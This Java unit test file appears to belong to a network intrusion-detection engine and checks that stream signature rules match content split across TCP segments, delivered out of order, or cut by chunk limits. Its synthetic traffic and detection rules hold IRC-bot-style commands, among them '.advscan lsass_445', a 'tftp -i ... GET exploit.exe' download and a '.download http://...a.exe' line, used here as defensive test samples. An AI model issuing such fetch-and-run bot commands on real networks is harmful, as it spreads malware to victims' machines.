package org.hyakuyobako.detect.signature;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import org.hyakuyobako.event.StatsEvent;
import org.hyakuyobako.testing.EventCollector;
import org.hyakuyobako.testing.Pipelines;
import org.hyakuyobako.testing.RuleRuns;
import org.hyakuyobako.testing.TcpScript;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Stream rules on chunks whose segments were scanned with their packets (one scan of a segment
 * for packet and stream rules): what the segment scans cannot see (a content split across
 * segments, a pattern bound to the chunk's start, bytes that did not come from a scanned segment)
 * is still found. Each connection first exchanges a line, so that its streams are collected when
 * the segments under test arrive; a packet rule on the port makes the packets scanned at all.
 */
class StreamRulesFromSegmentScansTest {
    static final String PACKET_RULE = """
            alert tcp any any -> any 7000 (msg:"packet rule"; flow:to_server; dsize:>0; content:"nowhere to be seen"; sid:100;)
            """;

    @TempDir
    Path dir;

    EventCollector run(String rules, RuleRuns.Script script) throws IOException {
        return RuleRuns.run(dir, PACKET_RULE + rules, Pipelines.options(), script);
    }

    static TcpScript greeted(org.hyakuyobako.generate.PcapWriter w) throws IOException {
        return new TcpScript(w, "10.0.0.7", 40001, "198.51.100.21", 7000, 1_200_000_000_000_000_000L)
                .client("hello\r\n").server("welcome\r\n");
    }

    static long chunksFromSegments(EventCollector out) {
        return out.of(StatsEvent.class).stream().mapToLong(s -> s.counters().getOrDefault("signature.stream_chunks_from_segment_scans", 0L))
                .max().orElse(0);
    }

    @Test
    void aContentInsideOneSegmentIsFoundByTheSegmentScan() throws IOException {
        EventCollector out = run("""
                alert tcp any any -> any 7000 (msg:"stream"; flow:established,to_server; content:"advscan lsass"; sid:1;)
                """, w -> greeted(w).client("PRIVMSG #x :.advscan lsass_445 100\r\n").server("ok\r\n").close());
        assertEquals(List.of(1L), RuleRuns.sids(out));
        assertTrue(chunksFromSegments(out) > 0, "the chunk was inspected from its segment scans");
    }

    @Test
    void aContentSplitAcrossSegmentsIsFoundWhereTheyMeet() throws IOException {
        EventCollector out = run("""
                alert tcp any any -> any 7000 (msg:"stream"; flow:established,to_server; content:"advscan lsass"; sid:1;)
                """, w -> greeted(w).client("PRIVMSG #x :.advs").client("can lsass_445 100\r\n").server("ok\r\n").close());
        assertEquals(List.of(1L), RuleRuns.sids(out));
        assertTrue(chunksFromSegments(out) > 0);
    }

    @Test
    void aPatternBoundToTheChunksStartIsLookedForThere() throws IOException {
        EventCollector out = run("""
                alert tcp any any -> any 7000 (msg:"record start"; flow:established,to_server; content:"|16 03|"; depth:2; sid:2;)
                """, w -> greeted(w).client("\u0016\u0003\u0001 a record of some length\r\n").server("ok\r\n").close());
        assertEquals(List.of(2L), RuleRuns.sids(out));
        assertTrue(chunksFromSegments(out) > 0);
    }

    @Test
    void bytesDeliveredFromHeldDataAreScannedInTheChunk() throws IOException {
        // The content lies wholly in the segment that arrived early (held, then delivered from a
        // copy), far from where the two segments meet.
        EventCollector out = run("""
                alert tcp any any -> any 7000 (msg:"stream"; flow:established,to_server; content:"advscan lsass"; sid:1;)
                """, w -> greeted(w).clientOutOfOrder("PRIVMSG #x :", "...................... .advscan lsass_445 100\r\n")
                .server("ok\r\n").close());
        assertEquals(List.of(1L), RuleRuns.sids(out));
    }

    @Test
    void aSegmentCutByTheChunkLimitLendsItsFindingsToBothChunks() throws IOException {
        // 16,380 bytes, then a segment that crosses the 16,384-byte chunk limit four bytes in, its
        // content in the part of the next chunk, then one more segment in that chunk.
        EventCollector out = run("""
                alert tcp any any -> any 7000 (msg:"stream"; flow:established,to_server; content:"advscan lsass"; sid:1;)
                """, w -> {
            TcpScript s = greeted(w);
            for (int k = 0; k < 12; k++) {
                s.client("x".repeat(1364) + "\n");
            }
            s.client("PRIVMSG .advscan lsass_445 100 5 0\r\n").client("and more lines to come\r\n").server("ok\r\n").close();
        });
        assertEquals(List.of(1L), RuleRuns.sids(out));
        assertTrue(chunksFromSegments(out) > 1);
    }

    /**
     * Segments of a mapped capture are read where they lie: packets are scanned and kept by their
     * stream chunks as views of the mapping, never copied unless a rule is verified. A content split
     * where two large segments meet, one inside a segment, and a packet rule's content are found
     * alike whether the capture is mapped (views) or gzipped (read into a refilled buffer: copies).
     */
    @Test
    void largeSegmentsReadInPlaceFindWhatCopiesFind() throws IOException {
        String rules = """
                alert tcp any any -> any 7000 (msg:"split"; flow:established,to_server; content:"advscan lsass"; sid:1;)
                alert tcp any any -> any 7000 (msg:"inside"; flow:established,to_server; content:"tftp -i"; sid:2;)
                alert tcp any any -> any 7000 (msg:"packet"; flow:to_server; dsize:>500; content:"|3a|.download http"; sid:3;)
                alert tcp any any -> any 7000 (msg:"across"; flow:established,to_server; content:"PRIVMSG #x"; content:"exploit.exe"; distance:0; sid:4;)
                """;
        RuleRuns.Script script = w -> greeted(w)
                .client("a".repeat(700) + " PRIVMSG #x :.advs")
                .client("can lsass_445 100 " + "b".repeat(700) + " tftp -i 10.0.0.9 GET exploit.exe\r\n")
                .client("PRIVMSG #x :.download http://192.0.2.4/a.exe " + "c".repeat(600) + "\r\n")
                .server("ok\r\n").close();
        EventCollector mapped = RuleRuns.run(dir, PACKET_RULE + rules, Pipelines.options(), script, false);
        EventCollector gzipped = RuleRuns.run(dir, PACKET_RULE + rules, Pipelines.options(), script, true);
        assertEquals(List.of(1L, 2L, 3L, 4L), RuleRuns.sids(mapped));
        assertEquals(RuleRuns.sids(mapped), RuleRuns.sids(gzipped));
        assertTrue(counter(mapped, "signature.payloads_in_place") >= 4, "payloads read in place");
        assertEquals(0, counter(gzipped, "signature.payloads_in_place"), "a refilled buffer is copied");
    }

    static long counter(EventCollector out, String name) {
        return out.of(StatsEvent.class).stream().mapToLong(s -> s.counters().getOrDefault(name, 0L)).max().orElse(0);
    }
}
